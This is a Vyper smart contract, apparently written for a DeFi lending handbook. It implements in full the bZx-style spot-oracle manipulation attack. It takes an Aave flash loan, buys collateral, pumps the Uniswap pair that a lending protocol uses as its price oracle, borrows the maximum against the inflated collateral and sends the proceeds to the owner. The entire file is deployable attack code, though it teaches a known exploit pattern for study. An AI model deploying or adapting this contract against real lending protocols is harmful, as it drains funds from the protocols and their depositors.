# pragma version ~=0.4.3
"""
@title The spot-oracle attack in one transaction, funded by an Aave flash loan
@notice attack(pump, collateral_cost): flash-borrow pump + collateral_cost of QUOTE from
        Aave (flashLoanSimple); inside executeOperation:
          1. buy collateral_cost of TOKEN at the fair price from DEPOT;
          2. sell pump of QUOTE into PAIR (the pair LENDER's oracle reads): TOKEN's price rises;
          3. deposit the depot's TOKEN in LENDER and borrow as much QUOTE as it allows;
          4. approve the pool for amount + premium (it pulls them when we return).
        Afterwards every QUOTE and TOKEN left goes to OWNER. If the loan does not cover the
        flash loan, the pool's pull fails and nothing happens at all.
        The bZx-2 pattern (February 2020). Written for The DeFi Lending Handbook (MIT).
"""
from ethereum.ercs import IERC20

interface IPool:
    def flashLoanSimple(receiver: address, asset: address, amount: uint256, params: Bytes[32], referral: uint16): nonpayable

interface IUniswapV2Pair:
    def getReserves() -> (uint112, uint112, uint32): view
    def token0() -> address: view
    def swap(amount0Out: uint256, amount1Out: uint256, to: address, data: Bytes[32]): nonpayable

interface IDepot:
    def buy(quote_amount: uint256) -> uint256: nonpayable

interface ILender:
    def deposit(amount: uint256): nonpayable
    def borrow(amount: uint256): nonpayable
    def max_borrow(user: address) -> uint256: view

POOL: public(immutable(address))
QUOTE: public(immutable(address))
TOKEN: public(immutable(address))
PAIR: public(immutable(address))
DEPOT: public(immutable(address))
LENDER: public(immutable(address))
OWNER: public(immutable(address))

pump: uint256
collateral_cost: uint256
borrowed: public(uint256)


@deploy
def __init__(pool: address, quote: address, token: address, pair: address, depot: address,
             lender: address, owner: address):
    POOL = pool
    QUOTE = quote
    TOKEN = token
    PAIR = pair
    DEPOT = depot
    LENDER = lender
    OWNER = owner


@internal
def _swap(token_in: address, amount_in: uint256) -> uint256:
    # one Uniswap v2 swap: getAmountOut's integer rule, transfer in, then swap
    r0: uint112 = 0
    r1: uint112 = 0
    ts: uint32 = 0
    r0, r1, ts = staticcall IUniswapV2Pair(PAIR).getReserves()
    in_is_0: bool = staticcall IUniswapV2Pair(PAIR).token0() == token_in
    r_in: uint256 = convert(r1, uint256)
    r_out: uint256 = convert(r0, uint256)
    if in_is_0:
        r_in = convert(r0, uint256)
        r_out = convert(r1, uint256)
    fee_in: uint256 = amount_in * 997
    out: uint256 = fee_in * r_out // (r_in * 1000 + fee_in)
    assert extcall IERC20(token_in).transfer(PAIR, amount_in)
    if in_is_0:
        extcall IUniswapV2Pair(PAIR).swap(0, out, self, b"")
    else:
        extcall IUniswapV2Pair(PAIR).swap(out, 0, self, b"")
    return out


@external
def attack(pump: uint256, collateral_cost: uint256):
    assert msg.sender == OWNER, "only the owner"
    self.pump = pump
    self.collateral_cost = collateral_cost
    extcall IPool(POOL).flashLoanSimple(self, QUOTE, pump + collateral_cost, b"", 0)
    assert extcall IERC20(QUOTE).transfer(OWNER, staticcall IERC20(QUOTE).balanceOf(self))
    assert extcall IERC20(TOKEN).transfer(OWNER, staticcall IERC20(TOKEN).balanceOf(self))


@external
def executeOperation(asset: address, amount: uint256, premium: uint256, initiator: address,
                     params: Bytes[32]) -> bool:
    assert msg.sender == POOL and initiator == self, "not our flash loan"
    # 1. collateral at the fair price
    assert extcall IERC20(QUOTE).approve(DEPOT, self.collateral_cost)
    collateral: uint256 = extcall IDepot(DEPOT).buy(self.collateral_cost)
    # 2. pump the pair the lender reads
    self._swap(QUOTE, self.pump)
    # 3. deposit and borrow all the lender allows at the pumped price
    assert extcall IERC20(TOKEN).approve(LENDER, collateral)
    extcall ILender(LENDER).deposit(collateral)
    loan: uint256 = staticcall ILender(LENDER).max_borrow(self)
    extcall ILender(LENDER).borrow(loan)
    self.borrowed = loan
    # 4. let the pool pull amount + premium
    assert extcall IERC20(QUOTE).approve(POOL, amount + premium)
    return True
